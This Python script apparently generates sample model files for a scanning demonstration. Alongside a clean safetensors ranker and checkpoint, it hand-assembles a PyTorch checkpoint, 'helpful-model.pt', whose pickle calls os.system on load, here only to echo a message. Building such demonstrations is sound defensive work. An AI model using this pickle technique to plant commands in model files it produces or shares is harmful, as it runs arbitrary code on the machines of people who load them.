#!/usr/bin/env python3
"""Writes the third-party models for the demonstration, byte by byte. Nothing here is executed.

good-ranker.safetensors   a linear ranker of two tensors: only data.
ranker.pt                 the same ranker as a checkpoint in PyTorch's zip layout, as training left it.
helpful-model.pt          a checkpoint in PyTorch's zip layout whose pickle calls os.system when it
                          is loaded. The command only prints a line, but a real one could do
                          anything. Never load it: scan it.
"""

import json
import os
import struct
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


def good():
    weight = b"".join(struct.pack("<f", ((i * 37) % 101 - 50) / 100) for i in range(64))
    bias = struct.pack("<f", 0.25)
    header = json.dumps({
        "__metadata__": {"format": "pt", "model": "good-ranker"},
        "rank.bias": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
        "rank.weight": {"dtype": "F32", "shape": [1, 64], "data_offsets": [4, 260]},
    }, separators=(",", ":")).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + bias + weight


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def malicious_pickle():
    """{'rank.weight': os.system('echo ...')}, as protocol 2 opcodes."""
    return b"".join([
        b"\x80\x02",                                # PROTO 2
        b"}",                                       # EMPTY_DICT
        text("rank.weight"),                        # the key
        b"cos\nsystem\n",                           # GLOBAL os.system
        text("echo this model just ran a command on your machine"),
        b"\x85", b"R",                              # TUPLE1, REDUCE: the call
        b"s", b".",                                 # SETITEM, STOP
    ])


def tensor(key, shape):
    """A tensor over a whole storage, as torch.save writes it."""
    count = shape[0] * (shape[1] if len(shape) > 1 else 1)
    strides = (shape[1], 1) if len(shape) > 1 else (1,)

    def numbers(values):
        return b"(" + b"".join(b"K" + bytes([value]) for value in values) + b"t"

    storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text(key) + text("cpu") + b"K" + bytes([count]) + b"tQ"
    return (b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00" + numbers(shape) + numbers(strides)
            + b"\x89ccollections\nOrderedDict\n)RtR")


def checkpoint_pickle():
    """{'state_dict': OrderedDict(...), 'epoch': 3, 'optimizer': {'lr': 0.01}}, as protocol 2 opcodes."""
    state = (b"ccollections\nOrderedDict\n)R(" + text("rank.weight") + tensor("0", (1, 64))
             + text("rank.bias") + tensor("1", (1,)) + b"u")
    optimizer = b"}" + text("lr") + b"G" + struct.pack(">d", 0.01) + b"s"
    return (b"\x80\x02}(" + text("state_dict") + state + text("epoch") + b"K\x03"
            + text("optimizer") + optimizer + b"u.")


def archive(path, members):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as made:
        for name, data in members:
            made.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)


def malicious(path):
    archive(path, [
        ("archive/data.pkl", malicious_pickle()), ("archive/byteorder", b"little"),
        ("archive/data/0", bytes(256)), ("archive/version", b"3\n"),
    ])


def checkpoint(path):
    data = good()
    start = 8 + struct.unpack("<Q", data[:8])[0]
    archive(path, [
        ("archive/data.pkl", checkpoint_pickle()), ("archive/byteorder", b"little"),
        ("archive/data/0", data[start + 4:]), ("archive/data/1", data[start:start + 4]),
        ("archive/version", b"3\n"),
    ])


with open(os.path.join(HERE, "good-ranker.safetensors"), "wb") as out:
    out.write(good())
malicious(os.path.join(HERE, "helpful-model.pt"))
checkpoint(os.path.join(HERE, "ranker.pt"))
